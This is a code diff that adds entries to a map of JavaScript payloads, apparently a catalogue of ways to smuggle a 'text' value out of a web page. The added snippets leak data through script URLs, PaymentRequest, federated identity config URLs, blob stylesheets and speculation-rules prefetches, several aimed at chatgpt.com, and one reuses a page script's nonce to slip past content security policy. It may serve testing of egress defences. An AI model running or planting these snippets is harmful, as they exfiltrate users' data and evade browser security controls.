@@ -65,4 +65,17 @@ export const LOADS: Readonly<Record<string, string>> = {
   'a header that counts': `return fetch('/x', { headers: { traceparent: text } })`,
   "a header that looks like the site's own proof": `return fetch('/x', { headers: { authorization: 'Bearer eyJ.' + text } })`,
   'addresses of twelve letters': `for (const piece of text.match(/.{1,12}/g)) await fetch('/x?q=' + piece)`,
+  'the path of a script': `const script = document.createElement('script'); script.src = '/x/' + encodeURIComponent(text) + '.js';
+    document.head.append(script)`,
+  'a way to pay': `const address = 'https://chatgpt.com/x?' + encodeURIComponent(text);
+    const total = { label: 'a', amount: { currency: 'EUR', value: '1' } };
+    return new PaymentRequest([{ supportedMethods: address }], { total }).canMakePayment().catch(() => 0)`,
+  'a provider of identities': `const configURL = 'https://chatgpt.com/x?' + encodeURIComponent(text);
+    return navigator.credentials.get({ identity: { providers: [{ configURL, clientId: '1' }] } }).catch(() => 0)`,
+  'a style sheet of a blob': `const rule = 'body { background: url(https://chatgpt.com/x?' + encodeURIComponent(text) + ') }';
+    const link = document.createElement('link'); link.rel = 'stylesheet';
+    link.href = URL.createObjectURL(new Blob([rule], { type: 'text/css' })); document.head.append(link)`,
+  'rules of speculation': `const script = document.createElement('script'); script.type = 'speculationrules';
+    const urls = ['/share/1?' + encodeURIComponent(text)]; script.nonce = document.querySelector('script')?.nonce ?? '';
+    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls }] }); document.head.append(script)`,
 };
